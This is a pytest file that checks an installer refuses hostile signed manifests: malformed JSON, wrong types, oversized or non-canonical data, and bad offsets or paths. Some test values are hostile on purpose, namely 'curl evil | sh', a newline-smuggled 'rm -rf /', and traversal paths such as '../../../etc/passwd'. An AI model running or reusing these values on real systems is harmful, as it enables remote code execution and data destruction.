"""Hostile manifests (docs/format.md, "manifest.json" and "Limits"; ../shared/guides/security.md,
"Integrity and authenticity").

The manifest is the one thing signed, so each attack here assumes a compromised build: the hostile
bytes carry a valid signature from a trusted key, and the manifest rules alone must refuse them (exit 6,
naming the field), before a byte of the payload is read and without touching the prefix.
"""

from __future__ import annotations

import copy
import json
import tracemalloc
from collections.abc import Callable
from typing import Any

import pytest

from gapship.installer.errors import UnsafeContentError
from gapship.installer.formats.manifest import MAX_FILES, MAX_MANIFEST_BYTES, MAX_OBJECTS, Manifest
from gapship.installer.kit import canonical_json
from hostile import Crafted, Payload, craft, sha256, standard_payload

Edit = Callable[[dict[str, Any]], None]


def _base() -> Crafted:
    return craft(standard_payload())


def _edited(edit: Edit) -> Crafted:
    crafted = _base()
    edit(crafted.manifest)
    return crafted


def _file(m: dict[str, Any], i: int = 0) -> dict[str, Any]:
    return m["components"][0]["files"][i]  # type: ignore[no-any-return]


def test_base_manifest_is_valid_and_canonical() -> None:
    """The control: every attack below changes exactly one thing in this manifest."""
    crafted = _base()
    data = canonical_json(crafted.manifest)
    assert Manifest.from_bytes(data).to_bytes() == data


# -- malformed JSON ------------------------------------------------------------------------------

MALFORMED = [
    ("empty", b""),
    ("truncated", b'{"bundle":{"name":"demo"'),
    ("not_json", b"this is not json"),
    ("bom", b"\xef\xbb\xbf{}"),
    ("invalid_utf8", b'{"bundle":"\xff\xfe"}'),
    ("nan", b'{"chunk_size":NaN}'),
    ("infinity", b'{"chunk_size":Infinity}'),
    ("float", b'{"chunk_size":1024.0}'),
    ("exponent", b'{"chunk_size":1E3}'),
    ("huge_integer", b'{"chunk_size":' + b"9" * 5000 + b"}"),
    ("deep_nesting", b"[" * 100_000 + b"]" * 100_000),
    ("deep_objects", b'{"a":' * 50_000 + b"1" + b"}" * 50_000),
]


@pytest.mark.parametrize("case", MALFORMED, ids=lambda c: c[0])
def test_rejects_malformed_json_manifest(site, case: tuple[str, bytes]) -> None:
    _, data = case
    error = site.assert_refused(site.write(_base(), manifest_bytes=data), code=6, needles=("manifest",))
    assert error["subject"] in ("manifest.json", "manifest")


@pytest.mark.parametrize("data", [b"null", b"[]", b'"manifest"', b"42", b"true"], ids=lambda d: d.decode())
def test_rejects_manifest_that_is_not_an_object(site, data: bytes) -> None:
    site.assert_refused(site.write(_base(), manifest_bytes=data), code=6, needles=("must be an object",),
                        subject="manifest")


# -- wrong types, missing and unknown fields --------------------------------------------------------

WRONG_TYPES: list[tuple[str, Edit, str]] = [
    ("chunk_size_string", lambda m: m.update(chunk_size="1024"), "chunk_size"),
    ("chunk_size_bool", lambda m: m.update(chunk_size=True), "chunk_size"),
    ("chunk_size_negative", lambda m: m.update(chunk_size=-1024), "chunk_size"),
    ("payload_size_null", lambda m: m.update(payload_size=None), "payload_size"),
    ("format_version_string", lambda m: m.update(format_version="1"), "format_version"),
    ("bundle_list", lambda m: m.update(bundle=["demo", "2.0.0"]), "bundle"),
    ("bundle_name_int", lambda m: m["bundle"].update(name=7), "bundle.name"),
    ("created_int", lambda m: m.update(created=1767225600), "created"),
    ("expires_list", lambda m: m.update(expires=[]), "expires"),
    ("chunks_object", lambda m: m.update(chunks={"00000.bin": {}}), "chunks"),
    ("chunk_not_object", lambda m: m["chunks"].__setitem__(0, "00000.bin"), "chunks[0]"),
    ("chunk_size_field_string", lambda m: m["chunks"][0].update(size="1024"), "chunks[0].size"),
    ("chunk_hash_int", lambda m: m["chunks"][0].update(hash=0), "chunks[0].hash"),
    ("components_object", lambda m: m.update(components={}), "components"),
    ("files_string", lambda m: m["components"][0].update(files="all"), "components[0].files"),
    ("file_mode_string", lambda m: _file(m).update(mode="0644"), "components[0].files[0].mode"),
    ("file_size_bool", lambda m: _file(m).update(size=False), "components[0].files[0].size"),
    ("file_offset_negative", lambda m: _file(m).update(offset=-512), "components[0].files[0].offset"),
    ("file_path_list", lambda m: _file(m).update(path=["models", "tiny", "x"]), "components[0].files[0].path"),
]


@pytest.mark.parametrize("case", WRONG_TYPES, ids=lambda c: c[0])
def test_rejects_wrong_field_types(site, case: tuple[str, Edit, str]) -> None:
    _, edit, field = case
    site.assert_refused(site.write(_edited(edit)), code=6, needles=(field,), subject=field)


TOP_FIELDS = ["format", "format_version", "bundle", "created", "hash_algorithm", "chunk_size", "payload_size",
              "chunks", "components"]


@pytest.mark.parametrize("field", TOP_FIELDS)
def test_rejects_missing_top_level_field(site, field: str) -> None:
    site.assert_refused(site.write(_edited(lambda m: m.pop(field))), code=6, needles=("lacks", field),
                        subject="manifest")


MISSING_NESTED: list[tuple[str, Edit, str, str]] = [
    ("bundle_name", lambda m: m["bundle"].pop("name"), "bundle", "name"),
    ("bundle_version", lambda m: m["bundle"].pop("version"), "bundle", "version"),
    ("chunk_hash", lambda m: m["chunks"][1].pop("hash"), "chunks[1]", "hash"),
    ("chunk_size", lambda m: m["chunks"][0].pop("size"), "chunks[0]", "size"),
    ("component_kind", lambda m: m["components"][0].pop("kind"), "components[0]", "kind"),
    *((f"file_{k}", (lambda k: lambda m: _file(m).pop(k))(k), "components[0].files[0]", k)
      for k in ("path", "size", "mode", "hash", "offset")),
]


@pytest.mark.parametrize("case", MISSING_NESTED, ids=lambda c: c[0])
def test_rejects_missing_nested_field(site, case: tuple[str, Edit, str, str]) -> None:
    _, edit, where, field = case
    site.assert_refused(site.write(_edited(edit)), code=6, needles=(where, "lacks", field), subject=where)


UNKNOWN: list[tuple[str, Edit, str, str]] = [
    ("top_level", lambda m: m.update(install_script="curl evil | sh"), "manifest", "install_script"),
    ("file_owner", lambda m: _file(m).update(owner="root"), "components[0].files[0]", "owner"),
    ("file_type_symlink", lambda m: _file(m).update(type="symlink"), "components[0].files[0]", "type"),
    ("chunk_url", lambda m: m["chunks"][0].update(url="http://example.invalid/x"), "chunks[0]", "url"),
    ("newline_key", lambda m: m.update({"x\ny": 1}), "manifest", "'x\\ny'"),
]


@pytest.mark.parametrize("case", UNKNOWN, ids=lambda c: c[0])
def test_rejects_unknown_fields(site, case: tuple[str, Edit, str, str]) -> None:
    _, edit, where, field = case
    site.assert_refused(site.write(_edited(edit)), code=6, needles=(where, "unknown", field), subject=where)


@pytest.mark.parametrize("version", [0, 3, 99, 2**53 - 1])
def test_rejects_unknown_format_version(site, version: int) -> None:
    site.assert_refused(site.write(_edited(lambda m: m.update(format_version=version))), code=6,
                        needles=(f"format v{version}", "upgrade gapship"), subject="format_version")


def test_rejects_unknown_format_name(site) -> None:
    site.assert_refused(site.write(_edited(lambda m: m.update(format="gapship-bundle-v2"))), code=6,
                        needles=("'gapship-bundle-v2'",), subject="format")


# -- canonical form --------------------------------------------------------------------------------

NON_CANONICAL: list[tuple[str, Callable[[dict[str, Any]], bytes]]] = [
    ("pretty", lambda m: json.dumps(m, sort_keys=True, indent=1).encode()),
    ("spaces", lambda m: json.dumps(m, sort_keys=True).encode()),
    ("unsorted_keys", lambda m: json.dumps(dict(reversed(list(m.items()))), separators=(",", ":")).encode()),
    ("trailing_newline", lambda m: canonical_json(m) + b"\n"),
    ("leading_space", lambda m: b" " + canonical_json(m)),
    ("ascii_escapes", lambda m: json.dumps(m, sort_keys=True, separators=(",", ":"), ensure_ascii=True).encode()),
    ("escaped_slash", lambda m: canonical_json(m).replace(b"models/tiny", b"models\\/tiny")),
    ("duplicate_key", lambda m: canonical_json(m).replace(b',"chunk_size"', b',"chunk_size":1,"chunk_size"', 1)),
]


@pytest.mark.parametrize("case", NON_CANONICAL, ids=lambda c: c[0])
def test_rejects_non_canonical_manifest_bytes(site, case: tuple[str, Callable[[dict[str, Any]], bytes]]) -> None:
    """Same content, other bytes: two verifiers could disagree about what was signed."""
    _, write = case
    payload = standard_payload({"caf\u00e9.json": b"{}\n"})
    crafted = craft(payload)
    data = write(crafted.manifest)
    assert data != canonical_json(crafted.manifest)
    site.assert_refused(site.write(crafted, manifest_bytes=data), code=6, needles=("canonical",),
                        subject="manifest.json")


# -- size and count caps ---------------------------------------------------------------------------


def test_rejects_manifest_over_size_cap(site) -> None:
    """Endless data: read at most cap + 1 bytes, refuse before any parsing or signature check."""
    crafted = _base()
    data = canonical_json(crafted.manifest)
    data = data[:-1] + b',"x":"' + b"a" * (MAX_MANIFEST_BYTES - len(data)) + b'"}'
    assert len(data) > MAX_MANIFEST_BYTES
    site.assert_refused(site.write(crafted, manifest_bytes=data), code=3, needles=("manifest.json", "cap"),
                        next_run=False)


def test_parser_rejects_bytes_over_size_cap() -> None:
    with pytest.raises(UnsafeContentError, match="over the"):
        Manifest.from_bytes(b" " * (MAX_MANIFEST_BYTES + 1))


def _millions_of_files(count: int) -> bytes:
    """A manifest declaring ``count`` files, each the smallest JSON object, within the byte cap."""
    skeleton = canonical_json({**_base().manifest, "components": [{"files": ["@"], "kind": "model", "name": "tiny"}]})
    return skeleton.replace(b'"@"', b",".join([b"{}"] * count))


def test_rejects_millions_of_files_on_the_cap_without_allocating_them() -> None:
    """Three million file objects fit in the byte cap; the parser must refuse them on the count cap
    before building them (peak Python allocation far below what three million dicts take)."""
    data = _millions_of_files(3_000_000)
    assert len(data) < MAX_MANIFEST_BYTES
    tracemalloc.start()
    try:
        with pytest.raises(UnsafeContentError, match="cap") as info:
            Manifest.from_bytes(data)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 64 * 1024**2, f"peak allocation {peak / 1024**2:.0f} MiB while refusing"
    assert "\n" not in info.value.message


def test_rejects_millions_of_files_declared(site) -> None:
    data = _millions_of_files(2_000_000)
    site.assert_refused(site.write(_base(), manifest_bytes=data), code=6, needles=("cap",))


def test_braces_inside_strings_do_not_count_against_the_cap() -> None:
    """The count cap looks at JSON structure only: 1.5 million '{' inside paths are not objects."""
    payload = Payload()
    for i in range(1500):
        payload.add(f"models/tiny/{i:04d}/" + "/".join(["{" * 250] * 4), b"")
    payload.policy()
    data = canonical_json(craft(payload, chunk_size=1 << 20).manifest)
    assert data.count(b"{") > MAX_OBJECTS
    assert Manifest.from_bytes(data).file_count == 1501


def test_rejects_files_over_cap_in_legit_shape() -> None:
    """MAX_FILES + 1 well-formed file entries (they fit in the byte cap): refused on the count."""
    entry = {"hash": "0" * 64, "mode": 0o644, "offset": 512, "path": "models/tiny/x", "size": 0}
    m = _base().manifest
    m["components"] = [{"kind": "model", "name": "tiny", "files": [entry] * (MAX_FILES + 1)}]
    data = canonical_json(m)
    assert len(data) < MAX_MANIFEST_BYTES
    with pytest.raises(UnsafeContentError, match=f"cap of {MAX_FILES}|more than {MAX_FILES}"):
        Manifest.from_bytes(data)


# -- chunks and offsets ----------------------------------------------------------------------------

LAYOUT: list[tuple[str, Edit, tuple[str, ...], str | None]] = [
    ("payload_size_one_more", lambda m: m.update(payload_size=m["payload_size"] + 1), ("payload_size",), "payload_size"),
    ("payload_size_one_block_less", lambda m: m.update(payload_size=m["payload_size"] - 512), ("payload_size",),
     "payload_size"),
    ("chunk_size_field_differs", lambda m: m.update(chunk_size=2048), ("chunk 00000.bin", "chunk_size"), "00000.bin"),
    ("middle_chunk_short", lambda m: m["chunks"][1].update(size=1000), ("chunk 00001.bin", "1000"), "00001.bin"),
    ("last_chunk_empty", lambda m: m["chunks"].append({"name": f"{len(m['chunks']):05d}.bin", "size": 0,
                                                       "hash": sha256(b"")}), ("has size",), None),
    ("chunk_renamed", lambda m: m["chunks"][1].update(name="00007.bin"), ("chunk 1", "'00001.bin'"), "00007.bin"),
    ("chunk_name_traversal", lambda m: m["chunks"][0].update(name="../../../etc/passwd"),
     ("'../../../etc/passwd'",), "../../../etc/passwd"),
    ("chunks_swapped_in_list", lambda m: m["chunks"].reverse(), ("expected",), None),
    ("no_chunks", lambda m: m.update(chunks=[]), ("no chunks",), "chunks"),
    ("chunk_size_below_min", lambda m: m.update(chunk_size=511), ("chunk_size 511",), "chunk_size"),
    ("chunk_size_over_max", lambda m: m.update(chunk_size=16 * 1024**3 + 1), ("chunk_size",), "chunk_size"),
    ("offsets_overlap", lambda m: _file(m, 1).update(offset=_file(m, 0)["offset"]), ("overlaps",),
     "models/tiny/weights.bin"),
    ("offset_unaligned", lambda m: _file(m, 1).update(offset=_file(m, 1)["offset"] + 1), ("offset",),
     "models/tiny/weights.bin"),
    ("offset_past_payload", lambda m: _file(m, 1).update(offset=m["payload_size"] + 512), ("offset",),
     "models/tiny/weights.bin"),
    ("size_past_payload", lambda m: _file(m, 1).update(size=m["payload_size"]), (), None),
    ("size_past_4gib", lambda m: _file(m, 1).update(size=2**32 + 1), (), None),
    ("offset_past_4gib", lambda m: _file(m, 1).update(offset=2**32 + 512), ("offset",), "models/tiny/weights.bin"),
    ("offset_wraps_32_bits", lambda m: _file(m, 1).update(offset=2**32 + _file(m, 1)["offset"]), ("offset",),
     "models/tiny/weights.bin"),
    ("payload_size_past_4gib", lambda m: m.update(payload_size=2**32 + m["payload_size"]), ("payload_size",),
     "payload_size"),
    ("size_2_to_53", lambda m: _file(m, 1).update(size=2**53), ("2^53-1",), "components[0].files[1].size"),
    ("size_2_to_64", lambda m: _file(m, 1).update(size=2**64 + 5), ("2^53-1",), "components[0].files[1].size"),
    ("file_outside_component", lambda m: _file(m, 0).update(path="safeguards/config.json"), ("not under models/tiny/",),
     "safeguards/config.json"),
]


@pytest.mark.parametrize("case", LAYOUT, ids=lambda c: c[0])
def test_rejects_inconsistent_chunk_and_file_layout(site, case: tuple[str, Edit, tuple[str, ...], str | None]) -> None:
    _, edit, needles, subject = case
    site.assert_refused(site.write(_edited(edit)), code=6, needles=needles, subject=subject)


def test_rejects_offset_overlap_by_one_block(site) -> None:
    """Two files whose data share the last block of the first."""
    def edit(m: dict[str, Any]) -> None:
        first = _file(m, 0)
        first["size"] += 600
    site.assert_refused(site.write(_edited(edit)), code=6, needles=("overlaps",), subject="models/tiny/weights.bin")


# -- other fields that become paths or decisions ---------------------------------------------------

FIELDS: list[tuple[str, Edit, tuple[str, ...], str | None]] = [
    ("name_traversal", lambda m: m["bundle"].update(name="../../etc"), ("'../../etc'",), "bundle name"),
    ("name_absolute", lambda m: m["bundle"].update(name="/etc"), ("'/etc'",), "bundle name"),
    ("name_upper", lambda m: m["bundle"].update(name="Demo"), ("'Demo'",), "bundle name"),
    ("name_empty", lambda m: m["bundle"].update(name=""), ("''",), "bundle name"),
    ("version_traversal", lambda m: m["bundle"].update(version="../1.0.0"), ("'../1.0.0'",), "version"),
    ("version_current", lambda m: m["bundle"].update(version="current"), ("'current'",), "version"),
    ("version_not_normal", lambda m: m["bundle"].update(version="2.0.0-rc1"), ("'2.0.0-rc1'", "normalised"), "version"),
    ("version_slash", lambda m: m["bundle"].update(version="2.0.0/../../x"), ("PEP 440",), "version"),
    ("hash_md5", lambda m: m.update(hash_algorithm="md5"), ("'md5'",), "hash_algorithm"),
    ("hash_upper", lambda m: m.update(hash_algorithm="SHA256"), ("'SHA256'",), "hash_algorithm"),
    ("chunk_hash_upper", lambda m: m["chunks"][0].update(hash=m["chunks"][0]["hash"].upper()), ("hex",),
     "chunk 00000.bin"),
    ("chunk_hash_short", lambda m: m["chunks"][0].update(hash="ab"), ("hex",), "chunk 00000.bin"),
    ("file_hash_sha512_length", lambda m: _file(m).update(hash="a" * 128), ("hex",), "file 'models/tiny/config.json'"),
    ("created_not_utc", lambda m: m.update(created="2026-01-01T00:00:00+01:00"), ("created",), "created"),
    ("expires_garbage", lambda m: m.update(expires="never"), ("expires",), "expires"),
    ("component_kind_scripts", lambda m: m["components"][0].update(kind="scripts"), ("kind 'scripts' must be one of",),
     "component scripts/tiny"),
    ("component_kind_newline", lambda m: m["components"][0].update(kind="model\nrm -rf /"), ("must be one of",),
     None),
    ("component_listed_twice", lambda m: m["components"].append(copy.deepcopy(m["components"][0])),
     ("listed twice",), "component model/tiny"),
    ("model_name_traversal", lambda m: m["components"][0].update(name=".."), ("'..'",), "model name"),
]


@pytest.mark.parametrize("case", FIELDS, ids=lambda c: c[0])
def test_rejects_hostile_field_values(site, case: tuple[str, Edit, tuple[str, ...], str | None]) -> None:
    _, edit, needles, subject = case
    site.assert_refused(site.write(_edited(edit)), code=6, needles=needles, subject=subject)


def test_verify_rejects_hostile_manifest_too(site) -> None:
    """``verify`` applies the same rules as ``install``."""
    bundle = site.write(_edited(lambda m: _file(m).update(path="/etc/passwd")))
    site.assert_refused(bundle, code=6, needles=("absolute",), subject="/etc/passwd", command="verify")


def test_rejects_manifest_changed_after_signing(site) -> None:
    """Not a compromised build: the manifest is edited after a good signature was made (exit 4)."""
    crafted = _base()
    bundle = site.write(crafted)
    crafted.manifest["components"][0]["files"][0]["mode"] = 0o755
    (bundle / "manifest.json").write_bytes(canonical_json(crafted.manifest))
    site.assert_refused(bundle, code=4, needles=("no valid signature", f"{site.key.keyid}.ed25519.sig: invalid"),
                        subject="signatures")
